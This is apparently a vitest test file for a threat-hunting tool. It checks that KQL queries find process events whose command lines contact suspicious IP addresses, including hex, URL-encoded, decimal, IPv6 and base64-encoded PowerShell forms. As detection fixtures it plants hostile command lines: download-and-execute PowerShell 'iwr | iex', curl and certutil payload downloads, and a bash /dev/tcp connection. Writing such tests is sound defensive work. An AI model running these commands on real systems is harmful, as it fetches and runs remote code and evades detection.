import { describe, expect, it } from 'vitest';
import { createKqlEngine } from '../../local/kql/createKqlEngine.js';
import type { KqlEngine, KqlResultTable } from '../../local/kql/kqlTypes.js';
import { generateProcessEvents, sysmonEventXml } from '../../local/sample/generateProcessEvents.js';
import { buildTableData } from '../../local/tables/tableData.js';
import { TABLE_SCHEMAS } from '../../local/tables/tableSchemas.js';
import { DEFAULT_PROCESSES } from '../../src/config/loadConfig.js';
import { extractAddresses } from '../../src/detect/extractAddresses.js';
import { compileExclusions } from '../../src/exclusions/compileExclusions.js';
import { aggregateFindings } from '../../src/findings/aggregateFindings.js';
import type { Finding } from '../../src/findings/finding.js';
import { buildHuntQuery } from '../../src/query/buildHuntQuery.js';
import { buildInvestigationQuery, INVESTIGATION_COLUMNS, rawFormsPattern } from '../../src/query/buildInvestigationQuery.js';
import { fixtureTable, FIXTURE_WINDOW } from '../support/huntWorkspace.js';

const utf16Base64 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const at = (minutes: number) => new Date(FIXTURE_WINDOW.start.getTime() + minutes * 60_000).toISOString();

// Planted events, each on its own time: plain, obfuscated and encoded forms of the same addresses, and look-alikes that
// are not those addresses (a longer number, a fifth part, a process the hunt does not read).
const ENCODED_TWICE = `powershell.exe -nop -w hidden -enc ${utf16Base64(`powershell -enc ${utf16Base64("IEX (iwr 'http://91.215.85.17/s.ps1')")}`)}`;
const securityEvents = [
  ['cmd.exe', 'cmd.exe /c curl.exe http://0x2d.9.0224.3/x -o x.exe'],
  ['cmd.exe', 'cmd.exe /c ping -n 1 45.9.148.3'],
  ['cmd.exe', 'cmd.exe /c ping -n 1 45.9.148.33'],
  ['cmd.exe', 'cmd.exe /c echo 1.45.9.148.3 > v.txt'],
  ['notepad.exe', 'notepad.exe \\\\45.9.148.3\\share\\readme.txt'],
  ['powershell.exe', `powershell.exe -enc ${utf16Base64("iwr http://91.215.85.17/a.ps1 | iex")}`],
].map(([process, commandLine], i) => ({
  TimeGenerated: at(60 + i),
  EventID: 4688,
  Computer: `ws-${i}.contoso.com`,
  Account: 'CONTOSO\\alice',
  SubjectUserSid: 'S-1-5-21-1-2-3-1001',
  Process: process,
  NewProcessName: `C:\\Windows\\System32\\${process}`,
  CommandLine: commandLine,
}));
const defenderEvents = [
  ['curl', 'curl -fsSL http://%34%35.9.148.3/x.sh -o /dev/shm/x'],
  ['powershell.exe', ENCODED_TWICE],
  ['bash', 'bash -c "exec 3<>/dev/tcp/2a05:d014:1c06:5f00::1/443"'],
].map(([process, commandLine], i) => ({
  TimeGenerated: at(120 + i),
  Timestamp: at(120 + i),
  DeviceId: `d${i}`,
  DeviceName: `lnx-${i}.contoso.com`,
  ActionType: 'ProcessCreated',
  FileName: process,
  FolderPath: `/usr/bin/${process}`,
  ProcessCommandLine: commandLine,
  AccountDomain: `lnx-${i}`,
  AccountName: 'root',
  AccountSid: '',
  Type: 'DeviceProcessEvents',
}));
const sysmonCommandLine = 'cmd.exe /c "curl http://[2A05:D014:1C06:5F00::1]:8443/p & ping 45.9.148.3"';
const eventRows = [
  {
    TimeGenerated: at(180),
    Source: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    Computer: 'ws-sysmon.contoso.com',
    EventData: sysmonEventXml({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: sysmonCommandLine, User: 'CONTOSO\\bob' }, at(180)),
    Type: 'Event',
  },
];
const windowsEventRows = [
  {
    TimeGenerated: at(240),
    Provider: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    Computer: 'ws-ama.contoso.com',
    EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://3057124099/p.exe p.exe', User: 'CONTOSO\\carol' },
    Type: 'WindowsEvent',
  },
];

const generated = generateProcessEvents({ rows: 120, seed: 7, start: FIXTURE_WINDOW.start, days: 1, maliciousRate: 0.1 });
const table = (name: string, rows: readonly object[]) => buildTableData(TABLE_SCHEMAS[name]!, rows, name);
const engine: KqlEngine = createKqlEngine({
  tables: {
    SecurityEvent: fixtureTable(securityEvents),
    DeviceProcessEvents: table('DeviceProcessEvents', [...generated.tables.DeviceProcessEvents, ...defenderEvents]),
    Event: table('Event', [...generated.tables.Event, ...eventRows]),
    WindowsEvent: table('WindowsEvent', [...generated.tables.WindowsEvent, ...windowsEventRows]),
  },
});

function objects(result: KqlResultTable): Record<string, unknown>[] {
  return result.rows.map((row) => Object.fromEntries(result.columns.map((c, i) => [c.name, row[i]])));
}

const iso = (value: unknown) => new Date(value as string | Date).toISOString();
/** One event as a comparable key. */
const key = (e: Record<string, unknown>) => [iso(e['TimeGenerated']), e['HuntSource'], e['Computer'], e['CommandLine']].join(' | ');

const config = { mode: 'hunt' as const, processes: DEFAULT_PROCESSES, sources: ['securityevent', 'defender', 'sysmon'] as const };
const hunted = new Set(DEFAULT_PROCESSES.map((p) => p.toLowerCase()));

/** Every process creation of the hunted sources, each leg's columns, before the hunt's filters. */
function allEvents(): Record<string, unknown>[] {
  const legs = buildHuntQuery({ ...config, processes: ['*'] }).replace(/\| where CommandLine matches regex ip_like[\s\S]*$/, '');
  return objects(engine.run(legs).tables[0]!);
}

/** The events behind a finding, by reasoning over every event: a hunted process whose command line holds the address. */
function eventsBehind(ip: string, events: readonly Record<string, unknown>[]): string[] {
  return events
    .filter((e) => hunted.has(String(e['Process']).toLowerCase()) && extractAddresses(String(e['CommandLine'])).some((a) => a.address === ip))
    .map(key)
    .sort();
}

function investigate(finding: Finding): Record<string, unknown>[] {
  return objects(engine.run(buildInvestigationQuery(finding)).tables[0]!);
}

const huntRows = objects(engine.run(buildHuntQuery(config)).tables[0]!);
const { findings } = aggregateFindings(huntRows, { exclusions: compileExclusions({ cidrs: [], rules: [] }), maxCommandLines: 20 });
const events = allEvents();
const findingOf = (ip: string) => findings.find((f) => f.ip === ip)!;

describe('buildInvestigationQuery on the local engine over all four process tables', () => {
  it('returns exactly the events behind each finding, in every form the address was written in', () => {
    expect(findings.length).toBeGreaterThan(5);
    for (const finding of findings) {
      const rows = investigate(finding);
      expect(rows.map(key).sort(), finding.ip).toEqual(eventsBehind(finding.ip, events));
      for (const row of rows) expect(Object.keys(row)).toEqual([...INVESTIGATION_COLUMNS]);
    }
  });

  it('finds an obfuscated address in every form it was written in, and none of the look-alikes', () => {
    const finding = findingOf('45.9.148.3');
    expect(finding.rawForms).toEqual(expect.arrayContaining([
      { text: '0x2d.9.0224.3', encoded: false },
      { text: '45.9.148.3', encoded: false },
      { text: '%34%35.9.148.3', encoded: false },
    ]));
    const lines = investigate(finding).map((r) => r['CommandLine']);
    expect(lines).toEqual(expect.arrayContaining([securityEvents[0]!.CommandLine, securityEvents[1]!.CommandLine, defenderEvents[0]!.ProcessCommandLine, sysmonCommandLine]));
    for (const decoy of [securityEvents[2]!.CommandLine, securityEvents[3]!.CommandLine, securityEvents[4]!.CommandLine]) expect(lines).not.toContain(decoy);
  });

  it('finds an address inside encoded commands, once and twice encoded, by the base64 that encodes it', () => {
    const finding = findingOf('91.215.85.17');
    expect(finding.encodings).toEqual(['encoded-command']);
    expect(finding.rawForms).not.toHaveLength(0);
    for (const form of finding.rawForms!) expect(form).toMatchObject({ encoded: true, text: expect.stringMatching(/^[A-Za-z0-9+/]{16,80}$/) });
    const lines = investigate(finding).map((r) => r['CommandLine']);
    expect(lines).toEqual(expect.arrayContaining([securityEvents[5]!.CommandLine, ENCODED_TWICE]));
  });

  it('finds IPv6 written in other cases and a decimal host, in the Sysmon tables', () => {
    expect(investigate(findingOf('2a05:d014:1c06:5f00::1')).map((r) => r['HuntSource'])).toEqual(expect.arrayContaining(['defender', 'sysmon']));
    expect(investigate(findingOf('182.56.3.3')).map((r) => r['Computer'])).toEqual(['ws-ama.contoso.com']);
  });

  it('reads only the finding span: an event after its last sighting is left out', () => {
    const finding = findingOf('45.9.148.3');
    const all = investigate(finding);
    expect(all.length).toBeGreaterThan(2);
    const cut = new Date(iso(all[1]!['TimeGenerated']));
    expect(investigate({ ...finding, lastSeen: cut }).map(key)).toEqual(all.slice(0, 2).map(key));
  });

  it('reads the forms again from the command lines of a finding stored without them', () => {
    const finding = findingOf('45.9.148.3');
    const { rawForms: _forms, rawFormsOmitted: _omitted, ...stored } = finding;
    expect(investigate(stored).map(key).sort()).toEqual(investigate(finding).map(key).sort());
  });
});

describe('rawFormsPattern', () => {
  it('matches address text as a whole token in any case, and base64 as written', () => {
    const pattern = new RegExp(rawFormsPattern([{ text: '0x2d.9.0224.3', encoded: false }, { text: 'NAA1AC4A', encoded: true }]));
    expect(pattern.test('curl http://0X2D.9.0224.3/x')).toBe(true);
    expect(pattern.test('curl http://0x2d.9.0224.33/x')).toBe(false);
    expect(pattern.test('-enc AAANAA1AC4AAA')).toBe(true);
    expect(pattern.test('-enc AAANAA1Ac4AAA')).toBe(false);
  });
});
